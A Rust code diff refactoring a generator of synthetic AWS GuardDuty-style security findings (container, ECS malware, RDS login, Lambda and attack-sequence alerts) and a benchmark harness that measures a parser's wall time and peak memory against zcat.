+    let (instance, details) = instance(rng, cx);
     let service = with(
         service(
             cx,
@@ -1559,28 +1635,27 @@ fn container_runtime(rng: &mut Rng, cx: &Ctx) -> Body {
         severity: severity(rng, base),
         title: format!("A suspicious process {exe} ran in container {app} on instance {instance}."),
         description: format!(
-            "Process {exe} (pid {pid}) ran with the command line `{command_line}` in container {app} (image {image}). \
-             Runtime Monitoring flagged it because it matches {}; check how it got into the container, replace \
-             the container from a known-good image, and rotate any credentials it could read.",
-            kind
+            "Process {exe} (pid {pid}) ran with the command line `{command_line}` in container \
+             {app} (image {image}). Runtime Monitoring flagged it because it matches {kind}; \
+             check how it got into the container, replace the container from a known-good \
+             image, and rotate any credentials it could read."
         ),
         resource: json!({
             "resourceType": "Container",
             "containerDetails": container,
-            "instanceDetails": instance_details(rng, cx, &instance),
+            "instanceDetails": details,
         }),
         service,
     }
 }
 
 fn ecs_cluster(rng: &mut Rng, cx: &Ctx) -> Body {
-    let cluster = format!(
-        "{}-{}",
-        APPS[rng.index(APPS.len())],
-        rng.pick(&["prod", "staging", "batch"])
-    );
+    let mut r = cx.resource(rng, "ecs", 4);
+    let app = r.pick(&APPS);
+    let cluster = format!("{app}-{}", r.pick(&["prod", "staging", "batch"]));
+    let cluster_tags = tags(&mut r, &cluster, app, 4..=8);
     let task = rng.hex(32);
-    let started = before(rng, cx.first_seen, 2);
+    let started = cx.first_seen - 3600 - rng.secs(2 * 86_400);
     let threat = rng.pick(&[
         "EICAR-Test-File",
         "Linux.Trojan.Mirai",
@@ -1588,14 +1663,13 @@ fn ecs_cluster(rng: &mut Rng, cx: &Ctx) -> Body {
         "Unix.Malware.Kaiji",
     ]);
     let files: Vec<Value> = (0..rng.range(1, 3))
-        .map(|i| {
+        .map(|_| {
             let name = format!("{}.bin", rng.hex(8));
             json!({
                 "filePath": format!("var/lib/docker/overlay2/{}/diff/tmp/{name}", rng.hex(64)),
                 "fileName": name,
-                "volumeArn": format!("arn:aws:ec2:{}:{}:volume/vol-{}", cx.region, cx.account, rng.hex(17)),
+                "volumeArn": cx.arn("ec2", &format!("volume/vol-{}", rng.hex(17))),
                 "hash": rng.hex(64),
-                "index": i,
             })
         })
         .collect();
@@ -1604,27 +1678,27 @@ fn ecs_cluster(rng: &mut Rng, cx: &Ctx) -> Body {
         "resourceType": "ECSCluster",
         "ecsClusterDetails": {
             "name": cluster,
-            "arn": format!("arn:aws:ecs:{}:{}:cluster/{cluster}", cx.region, cx.account),
+            "arn": cx.arn("ecs", &format!("cluster/{cluster}")),
             "status": "ACTIVE",
             "activeServicesCount": rng.range(1, 40),
             "registeredContainerInstancesCount": rng.range(0, 20),
             "runningTasksCount": rng.range(1, 200),
-            "tags": tags(rng, &cluster, 4..=8),
+            "tags": cluster_tags,
             "taskDetails": {
-                "arn": format!("arn:aws:ecs:{}:{}:task/{cluster}/{task}", cx.region, cx.account),
-                "definitionArn": format!("arn:aws:ecs:{}:{}:task-definition/{cluster}:{}", cx.region, cx.account, rng.range(1, 300)),
+                "arn": cx.arn("ecs", &format!("task/{cluster}/{task}")),
+                "definitionArn": cx.arn("ecs", &format!("task-definition/{cluster}:{}", rng.range(1, 300))),
                 "version": rng.range(1, 300).to_string(),
-                "createdAt": epoch_float(rng, started),
-                "startedAt": epoch_float(rng, started + 20),
+                "createdAt": json!(started as f64 + 0.25),
+                "startedAt": json!(started as f64 + 21.5),
                 "startedBy": format!("ecs-svc/{}", rng.range(1_000_000_000_000_000, 9_999_999_999_999_999)),
-                "containers": [{ "name": "app", "image": format!("{}.dkr.ecr.{}.amazonaws.com/{cluster}:latest", cx.account, cx.region) }],
+                "containers": [{ "name": "app", "image": format!("{}/{cluster}:latest", cx.ecr()) }],
             },
         },
     });
     let scan = json!({
         "scanId": rng.hex(32),
-        "scanStartedAt": epoch_float(rng, cx.first_seen),
-        "scanCompletedAt": epoch_float(rng, cx.first_seen + 400),
+        "scanStartedAt": cx.first_seen as f64 + 0.5,
+        "scanCompletedAt": (cx.first_seen + 400) as f64 + 0.75,
         "scanType": "GUARDDUTY_INITIATED",
         "triggerFindingId": rng.hex(32),
         "sources": ["Bitdefender", "Amazon"],
@@ -1658,9 +1732,9 @@ fn ecs_cluster(rng: &mut Rng, cx: &Ctx) -> Body {
             "{item_count} security risk(s) detected including {threat} on ECS cluster {cluster}."
         ),
         description: format!(
-            "A malware scan of the volumes behind task {task} of ECS cluster {cluster} found {item_count} file(s) \
-             matching {threat}. Stop the task, find out how the file got into the image or the volume, and \
-             redeploy from a clean image."
+            "A malware scan of the volumes behind task {task} of ECS cluster {cluster} found \
+             {item_count} file(s) matching {threat}. Stop the task, find out how the file got \
+             into the image or the volume, and redeploy from a clean image."
         ),
         resource,
         service,
@@ -1668,23 +1742,10 @@ fn ecs_cluster(rng: &mut Rng, cx: &Ctx) -> Body {
 }
 
 fn rds_login(rng: &mut Rng, cx: &Ctx) -> Body {
-    let ip = rng.public_ip();
-    let db = format!(
-        "{}-{}",
-        APPS[rng.index(APPS.len())],
-        rng.pick(&["db", "primary", "replica-1", "aurora-cluster-instance-1"])
-    );
-    let user = rng.pick(&["postgres", "admin", "app_rw", "reporting_ro", "sa"]);
-    let (engine, version) = rng.pick(&[
-        ("aurora-postgresql", "15.4"),
-        ("postgres", "16.2"),
-        ("aurora-mysql", "8.0.mysql_aurora.3.05.2"),
-        ("mysql", "8.0.36"),
-    ]);
     let (kind, base, success) = rng.pick(&[
         (
             "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin",
-            8u64,
+            8,
             true,
         ),
         (
@@ -1699,28 +1760,45 @@ fn rds_login(rng: &mut Rng, cx: &Ctx) -> Body {
         ),
         ("Discovery:RDS/TorIPCaller", 5, false),
     ]);
-    let profile = |rng: &mut Rng, key: &str, value: &str| {
+    let ip = rng.public_ip();
+    let user = rng.pick(&["postgres", "admin", "app_rw", "reporting_ro", "sa"]);
+    let asn_org = GEOS[rng.index(GEOS.len())].asn_org;
+
+    let mut r = cx.resource(rng, "rds", 5);
+    let app = r.pick(&APPS);
+    let db = format!(
+        "{app}-{}",
+        r.pick(&["db", "primary", "replica-1", "aurora-instance-1"])
+    );
+    let (engine, version) = r.pick(&[
+        ("aurora-postgresql", "15.4"),
+        ("postgres", "16.2"),
+        ("aurora-mysql", "8.0.mysql_aurora.3.05.2"),
+        ("mysql", "8.0.36"),
+    ]);
+    let db_tags = tags(&mut r, &db, app, 4..=9);
+
+    let mut profile = |name: &str, value: &str| {
         json!({
-            key: value,
+            name: value,
             "failedLoginCount": if success { rng.below(5) } else { rng.range(10, 4000) },
             "successfulLoginCount": u64::from(success) * rng.range(1, 3),
             "incompleteConnectionCount": rng.below(3),
         })
     };
-    let geo_org = GEOS[rng.index(GEOS.len())].asn_org;
     let additional = additional_info(json!({
         "unusualBehavior": {
-            "unusualUserNameClusterProfiling": profile(rng, "userName", user),
-            "unusualASNClusterProfiling": profile(rng, "asnOrg", geo_org),
-            "unusualApplicationNameClusterProfiling": profile(rng, "applicationName", "psql"),
-            "unusualDatabaseNameClusterProfiling": profile(rng, "databaseName", "app"),
+            "unusualUserNameClusterProfiling": profile("userName", user),
+            "unusualASNClusterProfiling": profile("asnOrg", asn_org),
+            "unusualApplicationNameClusterProfiling": profile("applicationName", "psql"),
+            "unusualDatabaseNameClusterProfiling": profile("databaseName", "app"),
         },
     }));
     let action = json!({
         "actionType": "RDS_LOGIN_ATTEMPT",
         "rdsLoginAttemptAction": {
             "remoteIpDetails": remote_ip_details(rng, &ip),
-            "loginAttributes": [{
+            "LoginAttributes": [{
                 "user": user,
                 "application": rng.pick(&["psql", "DBeaver 24.0.1", "mysql", ""]),
                 "failedLoginAttempts": if success { 0 } else { rng.range(10, 4000) },
@@ -1728,26 +1806,20 @@ fn rds_login(rng: &mut Rng, cx: &Ctx) -> Body {
             }],
         },
     });
+    let (title, sentence) = if success {
+        ("Unusual successful", "An unusual successful")
+    } else {
+        ("Failed", "A failed")
+    };
     Body {
         kind: kind.to_owned(),
         severity: severity(rng, base),
-        title: format!(
-            "{} login by {user} observed on RDS instance {db}.",
-            if success {
-                "Unusual successful"
-            } else {
-                "Failed"
-            }
-        ),
+        title: format!("{title} login by {user} observed on RDS instance {db}."),
         description: format!(
-            "{} login by {user} from {ip} observed on RDS database instance {db} ({engine} {version}) in account {}. \
-             The source address, its network ({geo_org}) or the client application has not been seen logging \
-             in to this database before; confirm the login with the database owner.",
-            if success {
-                "An unusual successful"
-            } else {
-                "A failed"
-            },
+            "{sentence} login by {user} from {ip} observed on RDS database instance {db} \
+             ({engine} {version}) in account {}. The source address, its network ({asn_org}) or \
+             the client application has not been seen logging in to this database before; \
+             confirm the login with the database owner.",
             cx.account
         ),
         resource: json!({
@@ -1757,72 +1829,74 @@ fn rds_login(rng: &mut Rng, cx: &Ctx) -> Body {
                 "engine": engine,
                 "engineVersion": version,
                 "dbClusterIdentifier": format!("{db}-cluster"),
-                "dbInstanceArn": format!("arn:aws:rds:{}:{}:db:{db}", cx.region, cx.account),
-                "tags": tags(rng, &db, 4..=9),
+                "dbInstanceArn": cx.arn("rds", &format!("db:{db}")),
+                "tags": db_tags,
             },
-            "rdsDbUserDetails": { "user": user, "application": "psql", "database": "app", "ssl": "true", "authMethod": "PASSWORD" },
+            "rdsDbUserDetails": {
+                "user": user,
+                "application": "psql",
+                "database": "app",
+                "ssl": "true",
+                "authMethod": "PASSWORD",
+            },
         }),
         service: service(cx, "RdsLoginEvents", action, additional, Value::Null),
     }
 }
 
 fn lambda_network(rng: &mut Rng, cx: &Ctx) -> Body {
-    let function = format!(
-        "{}-{}",
-        APPS[rng.index(APPS.len())],
-        rng.pick(&["handler", "worker", "authorizer", "cron"])
-    );
-    let remote = rng.public_ip();
     let (kind, base) = rng.pick(&[
-        ("Backdoor:Lambda/C&CActivity.B", 8u64),
+        ("Backdoor:Lambda/C&CActivity.B", 8),
         ("CryptoCurrency:Lambda/BitcoinTool.B", 8),
         ("Trojan:Lambda/BlackholeTraffic", 5),
         ("UnauthorizedAccess:Lambda/MaliciousIPCaller.Custom", 5),
     ]);
-    let role = ROLE_NAMES[rng.index(ROLE_NAMES.len())];
-    let subnets: Vec<String> = (0..rng.range(2, 3))
-        .map(|_| format!("subnet-{}", rng.hex(17)))
+    let remote = rng.public_ip();
+
+    let mut r = cx.resource(rng, "lambda", 15);
+    let app = r.pick(&APPS);
+    let function = format!(
+        "{app}-{}",
+        r.pick(&["handler", "worker", "authorizer", "cron"])
+    );
+    let role = r.pick(&ROLE_NAMES);
+    let subnets: Vec<String> = (0..r.range(2, 3))
+        .map(|_| format!("subnet-{}", r.hex(17)))
         .collect();
-    let resource = json!({
-        "resourceType": "Lambda",
-        "lambdaDetails": {
-            "functionArn": format!("arn:aws:lambda:{}:{}:function:{function}", cx.region, cx.account),
-            "functionName": function,
-            "description": format!("{function}: handles events for the {} team", TEAMS[rng.index(TEAMS.len())]),
-            "lastModifiedAt": epoch_before(rng, cx.first_seen, 60),
-            "revisionId": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
-            "functionVersion": "$LATEST",
-            "role": format!("arn:aws:iam::{}:role/{role}", cx.account),
-            "vpcConfig": {
-                "subnetIds": subnets,
-                "vpcId": format!("vpc-{}", rng.hex(17)),
-                "securityGroups": [{ "groupName": format!("{function}-sg"), "groupId": format!("sg-{}", rng.hex(17)) }],
-            },
-            "tags": tags(rng, &function, 5..=10),
+    let details = json!({
+        "functionArn": cx.arn("lambda", &format!("function:{function}")),
+        "functionName": function,
+        "description": format!("{function}: handles {app} events for the {} team", r.pick(&TEAMS)),
+        "lastModifiedAt": epoch_before(&mut r, EPOCH_START, 60),
+        "revisionId": r.uuid(),
+        "functionVersion": "$LATEST",
+        "role": format!("arn:aws:iam::{}:role/{role}", cx.account),
+        "vpcConfig": {
+            "subnetIds": subnets,
+            "vpcId": format!("vpc-{}", r.hex(17)),
+            "securityGroups": [{ "groupName": format!("{function}-sg"), "groupId": format!("sg-{}", r.hex(17)) }],
         },
+        "tags": tags(&mut r, &function, app, 5..=10),
     });
-    let action = json!({
-        "actionType": "NETWORK_CONNECTION",
-        "networkConnectionAction": {
-            "connectionDirection": "OUTBOUND",
-            "blocked": false,
-            "protocol": "TCP",
-            "localIpDetails": { "ipAddressV4": rng.private_ip() },
-            "localPortDetails": { "port": rng.range(32768, 60999), "portName": "Unknown" },
-            "remotePortDetails": { "port": rng.pick(&[443u64, 80, 3333, 4444, 8080]), "portName": "Unknown" },
-            "remoteIpDetails": remote_ip_details(rng, &remote),
-        },
-    });
+    let ephemeral = rng.range(32768, 60999);
+    let port = rng.pick(&[443, 80, 3333, 4444, 8080]);
+    let action = network_connection(
+        rng,
+        false,
+        (ephemeral, "Unknown"),
+        (port, "Unknown"),
+        &remote,
+    );
     Body {
         kind: kind.to_owned(),
         severity: severity(rng, base),
         title: format!("Lambda function {function} is communicating with a suspicious IP address."),
         description: format!(
-            "Lambda function {function} (role {role}) is making outbound connections to {remote}, an address on a \
-             threat list. Review the function's recent deployments and dependencies for injected code, and check \
-             what its role allowed it to read."
+            "Lambda function {function} (role {role}) is making outbound connections to \
+             {remote}, an address on a threat list. Review the function's recent deployments and \
+             dependencies for injected code, and check what its role allowed it to read."
         ),
-        resource,
+        resource: json!({ "resourceType": "Lambda", "lambdaDetails": details }),
         service: service(
             cx,
             "LambdaNetworkLogs",
@@ -1834,14 +1908,10 @@ fn lambda_network(rng: &mut Rng, cx: &Ctx) -> Body {
 }
 
 fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
-    let user = USER_NAMES[rng.index(USER_NAMES.len())];
-    let principal = format!("AIDA{}", rng.upper(17));
-    let ip = rng.public_ip();
-    let geo = &GEOS[rng.index(GEOS.len())];
     let (kind, what, apis) = rng.pick(&[
         (
             "AttackSequence:IAM/CompromisedCredentials",
-            "a possible credential compromise",
+            "credential compromise",
             [
                 "cloudtrail:DeleteTrail",
                 "iam:AttachRolePolicy",
@@ -1851,7 +1921,7 @@ fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
         ),
         (
             "AttackSequence:S3/CompromisedData",
-            "a possible data compromise of one or more S3 buckets",
+            "data compromise of one or more S3 buckets",
             [
                 "s3:GetObject",
                 "s3:DeleteObject",
@@ -1861,7 +1931,7 @@ fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
         ),
         (
             "AttackSequence:EKS/CompromisedCluster",
-            "a possible compromise of an EKS cluster",
+            "compromise of an EKS cluster",
             [
                 "eks:ListClusters",
                 "sts:GetCallerIdentity",
@@ -1870,29 +1940,35 @@ fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
             ],
         ),
     ]);
+    let mut r = cx.resource(rng, "principal", 12);
+    let user = r.pick(&USER_NAMES);
+    let principal = format!("AIDA{}", r.upper(17));
+    let user_arn = format!("arn:aws:iam::{}:user/{user}", cx.account);
+    let ip = rng.public_ip();
+    let geo = &GEOS[rng.index(GEOS.len())];
     let t_ms = cx.first_seen * 1000;
     let signals: Vec<Value> = (0..rng.range(3, 5))
         .map(|i| {
-            let signal_kind = rng.pick(&[
+            let name = rng.pick(&[
                 "Discovery:IAMUser/AnomalousBehavior",
                 "Stealth:IAMUser/CloudTrailLoggingDisabled",
                 "Persistence:IAMUser/AnomalousBehavior",
                 "Exfiltration:S3/AnomalousBehavior",
                 "UnauthorizedAccess:IAMUser/TorIPCaller",
             ]);
-            let at = t_ms + i64::try_from(i * 600_000 + rng.below(600_000)).expect("fits");
+            let at = t_ms + rng.secs(600_000) + i64::try_from(i).expect("small") * 600_000;
             json!({
-                "uid": format!("arn:aws:guardduty:{}:{}:detector/{}/finding/{}", cx.region, cx.account, cx.detector, rng.hex(32)),
+                "uid": cx.arn("guardduty", &format!("detector/{}/finding/{}", cx.detector, rng.hex(32))),
                 "type": "FINDING",
-                "name": signal_kind,
-                "description": format!("{signal_kind} observed for {user}"),
-                "severity": rng.pick(&[2.0f64, 5.0, 8.0]),
+                "name": name,
+                "description": format!("{name} observed for {user}"),
+                "severity": rng.pick(&[2.0, 5.0, 8.0]),
                 "count": rng.range(1, 40),
                 "createdAt": at,
                 "updatedAt": at + 60_000,
                 "firstSeenAt": at - 30_000,
                 "lastSeenAt": at + 30_000,
-                "resourceIds": [format!("arn:aws:iam::{}:user/{user}", cx.account)],
+                "resourceIds": [user_arn],
                 "actorIds": [principal],
                 "endpointIds": [ip],
                 "signalIndicators": [{ "key": "ATTACK_TACTIC", "title": "Tactic", "values": ["Discovery", "Persistence"] }],
@@ -1903,14 +1979,24 @@ fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
     let detection = json!({
         "sequence": {
             "uid": rng.hex(32),
-            "description": format!("A sequence of actions involving {signal_count} signals indicating {what} was observed for IAMUser/{user}."),
+            "description": format!("A sequence of actions involving {signal_count} signals indicating a possible {what} was observed for IAMUser/{user}."),
             "actors": [{
                 "id": principal,
-                "user": { "name": user, "uid": principal, "type": "IAMUser", "account": { "uid": cx.account, "name": format!("{}-prod", TEAMS[rng.index(TEAMS.len())]) } },
-                "session": { "uid": format!("ASIA{}", rng.upper(16)), "mfaStatus": "Disabled", "createdTime": t_ms - 3_600_000, "issuer": format!("arn:aws:iam::{}:user/{user}", cx.account) },
+                "user": {
+                    "name": user,
+                    "uid": principal,
+                    "type": "IAMUser",
+                    "account": { "uid": cx.account, "name": format!("{}-prod", rng.pick(&TEAMS)) },
+                },
+                "session": {
+                    "uid": format!("ASIA{}", rng.upper(16)),
+                    "mfaStatus": "Disabled",
+                    "createdTime": t_ms - 3_600_000,
+                    "issuer": user_arn,
+                },
             }],
             "resources": [{
-                "uid": format!("arn:aws:iam::{}:user/{user}", cx.account),
+                "uid": user_arn,
                 "name": user,
                 "accountId": cx.account,
                 "resourceType": "IAMUser",
@@ -1928,7 +2014,11 @@ fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
             "signals": signals,
             "sequenceIndicators": [
                 { "key": "ATTACK_TACTIC", "values": ["Persistence", "Privilege Escalation", "Defense Evasion", "Discovery", "Initial Access"] },
-                { "key": "ATTACK_TECHNIQUE", "values": ["T1562.008 - Impair Defenses: Disable or Modify Cloud Logs", "T1098.003 - Account Manipulation: Additional Cloud Roles", "T1078.004 - Valid Accounts: Cloud Accounts"] },
+                { "key": "ATTACK_TECHNIQUE", "values": [
+                    "T1562.008 - Impair Defenses: Disable or Modify Cloud Logs",
+                    "T1098.003 - Account Manipulation: Additional Cloud Roles",
+                    "T1078.004 - Valid Accounts: Cloud Accounts",
+                ] },
                 { "key": "HIGH_RISK_API", "values": apis },
             ],
         },
@@ -1938,22 +2028,23 @@ fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
         "detection",
         detection,
     );
+    let severity = if rng.chance(50) {
+        json!(9)
+    } else {
+        json!(rng.pick(&[9.0, 9.4, 10.0]))
+    };
     Body {
         kind: kind.to_owned(),
-        severity: if rng.chance(50) {
-            json!(9)
-        } else {
-            json!(rng.pick(&[9.0f64, 9.4, 10.0]))
-        },
+        severity,
         title: format!(
-            "Potential {} indicated by a sequence of actions associated with IAMUser/{user}.",
-            &what[11..]
+            "Potential {what} indicated by a sequence of actions associated with IAMUser/{user}."
         ),
         description: format!(
-            "A sequence of actions involving {signal_count} signals indicating {what} was observed for IAMUser/{user} \
-             with principalId {principal} in account {}\nbetween eventFirstSeen and eventLastSeen with the following \
-             behaviors:\n  - 5 MITRE ATT&CK tactics observed: Persistence, Privilege Escalation, Defense Evasion, \
-             Discovery, Initial Access\n  - Connected from {ip} ({}, {})\n  - {} sensitive APIs called: {}\n",
+            "A sequence of actions involving {signal_count} signals indicating a possible {what} \
+             was observed for IAMUser/{user} with principalId {principal} in account {}\nbetween \
+             eventFirstSeen and eventLastSeen with the following behaviors:\n  - 5 MITRE ATT&CK \
+             tactics observed: Persistence, Privilege Escalation, Defense Evasion, Discovery, \
+             Initial Access\n  - Connected from {ip} ({}, {})\n  - {} sensitive APIs called: {}\n",
             cx.account,
             geo.city,
             geo.country,
@@ -1993,13 +2084,13 @@ fn run_zcat(export: &Path) -> Run {
         .stdin(Stdio::null())
         .stdout(Stdio::null())
         .stderr(Stdio::inherit());
-    let (wall, peak_rss, status, _) = measure(&mut command, "zcat", false);
-    if let Err(why) = status {
+    let measured = measure(&mut command, "zcat", false);
+    if let Err(why) = measured.outcome {
         panic!("zcat {} failed: {why}", export.display());
     }
     Run {
-        wall,
-        peak_rss,
+        wall: measured.wall,
+        peak_rss: measured.peak_rss,
         summary: None,
     }
 }
@@ -2013,30 +2104,37 @@ fn run_ours(export: &Path, extra_args: &[String]) -> Run {
         .stdin(Stdio::null())
         .stdout(Stdio::null())
         .stderr(Stdio::piped());
-    let (wall, peak_rss, status, stderr) = measure(&mut command, BIN, true);
-    if let Err(why) = status {
+    let measured = measure(&mut command, BIN, true);
+    if let Err(why) = measured.outcome {
         panic!(
-            "{BIN} process --format json {} {} failed: {why}\nlast stderr output:\n{stderr}",
+            "{BIN} process --format json {} {} failed: {why}\nlast stderr output:\n{}",
             export.display(),
-            extra_args.join(" ")
+            extra_args.join(" "),
+            measured.stderr
         );
     }
-    let summary = parse_summary(&stderr);
     Run {
-        wall,
-        peak_rss,
-        summary: Some(summary),
+        wall: measured.wall,
+        peak_rss: measured.peak_rss,
+        summary: Some(parse_summary(&measured.stderr)),
     }
 }
 
-/// Spawns `command`, reaps it with `wait4(2)`, and returns its wall time (spawn to reap), peak
-/// RSS in bytes, exit status (`Err` with a description unless it exited 0), and the tail of its
-/// stderr when `capture_stderr` (the command must then have a piped stderr).
-fn measure(
-    command: &mut Command,
-    name: &str,
-    capture_stderr: bool,
-) -> (Duration, u64, Result<(), String>, String) {
+/// What [`measure`] observed of one child process.
+struct Measured {
+    /// From spawn to reap.
+    wall: Duration,
+    /// Peak resident set size, in bytes.
+    peak_rss: u64,
+    /// `Err` with a description unless the child exited with status 0.
+    outcome: Result<(), String>,
+    /// The tail of its stderr, when captured.
+    stderr: String,
+}
+
+/// Spawns `command` and reaps it with `wait4(2)`, which reports the resource usage of that
+/// child alone. With `capture_stderr` the command must have a piped stderr, whose tail is kept.
+fn measure(command: &mut Command, name: &str, capture_stderr: bool) -> Measured {
     let started = Instant::now();
     let mut child: Child = command
         .spawn()
@@ -2080,13 +2178,19 @@ fn measure(
         .unwrap_or_default();
     // ru_maxrss is in KiB on Linux.
     let peak_rss = u64::try_from(usage.ru_maxrss).unwrap_or(0) * 1024;
-    (wall, peak_rss, outcome, stderr)
+    Measured {
+        wall,
+        peak_rss,
+        outcome,
+        stderr,
+    }
 }
 
 /// Reads `source` to its end, keeping only the last [`STDERR_TAIL_BYTES`] bytes.
 fn read_tail(source: &mut impl Read) -> String {
     let mut tail: VecDeque<u8> = VecDeque::with_capacity(STDERR_TAIL_BYTES);
     let mut buf = [0u8; 8192];
+    let mut failure = None;
     loop {
         match source.read(&mut buf) {
             Ok(0) => break,
@@ -2097,12 +2201,17 @@ fn read_tail(source: &mut impl Read) -> String {
             }
             Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
             Err(e) => {
-                let _ = write!(String::new(), "{e}");
+                failure = Some(e);
                 break;
             }
         }
     }
-    String::from_utf8_lossy(tail.make_contiguous()).into_owned()
+    let mut text = String::from_utf8_lossy(tail.make_contiguous()).into_owned();
+    if let Some(e) = failure {
+        // Keep it off the last line, where the summary is expected.
+        text.insert_str(0, &format!("[reading stderr failed: {e}]\n"));
+    }
+    text
 }
 
 /// The summary on the last non-blank line of our binary's stderr.
